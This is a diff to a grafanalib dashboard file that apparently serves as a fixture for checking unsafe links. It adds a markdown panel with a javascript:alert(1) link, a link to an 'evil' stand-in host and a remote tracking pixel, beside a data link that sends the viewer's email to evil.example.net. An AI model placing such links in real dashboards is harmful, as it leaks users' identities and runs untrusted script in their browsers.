@@ -1,4 +1,4 @@
-from grafanalib.core import Dashboard, DashboardLink, GridPos, Target, TimeSeries
+from grafanalib.core import Dashboard, DashboardLink, GridPos, Target, Text, TimeSeries
 
 ON_VALUES = [
     {"title": "Allowed", "url": "https://wiki.example.com/x?who=${__field.labels.job}&${__url_time_range}"},
@@ -24,6 +24,15 @@ dashboard = Dashboard(
                 {"title": "Elsewhere", "url": "https://evil.example.net/?who=${__user.email}"},
             ],
             extraJson={"fieldConfig": {"defaults": {"links": ON_VALUES}}},
+        ),
+        Text(
+            title="Words",
+            gridPos=GridPos(x=0, y=8, w=24, h=4),
+            content="""
+                [Runs](javascript:alert(1)), [leads elsewhere](https://evil.example.com/x),
+                [is ours](/d/demo--links)
+                ![A picture](public/img/grafana_icon.svg) ![Somebody's](//evil.example.com/pixel.png)
+            """,
         ),
     ],
     links=[DashboardLink(title="Head", type="link", uri="http://evil.example.org")],
